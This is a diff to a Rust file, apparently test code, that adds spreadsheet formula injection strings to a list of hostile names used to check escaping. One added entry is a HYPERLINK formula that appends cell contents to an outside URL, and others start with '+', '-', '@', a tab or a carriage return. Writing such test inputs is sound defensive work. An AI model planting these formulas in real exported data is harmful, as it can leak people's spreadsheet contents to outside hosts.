@@ -4,8 +4,8 @@ use std::fmt::Write as _;
 
 use crate::mix::mix;
 
-/// Names that break careless escaping, alignment, HTML and label values.
-const HOSTILE_NAMES: [&str; 15] = [
+/// Names that break careless escaping, alignment, HTML, label values and spreadsheets.
+const HOSTILE_NAMES: [&str; 21] = [
     "O\"Brien \"the quote\"",
     "back\\slash\\",
     "new\nline",
@@ -21,6 +21,12 @@ const HOSTILE_NAMES: [&str; 15] = [
     "_none",
     "a,b;c&d=e%41+f#g?h/i",
     "Zoë Müller-Ñandú",
+    "=HYPERLINK(\"http://example.com/?\"&A1,\"open\")",
+    "+1+2",
+    "-1+2",
+    "@SUM(A1:A9)",
+    "\tafter a tab",
+    "\rafter a return",
 ];
 
 /// A text and its JSON encoding.
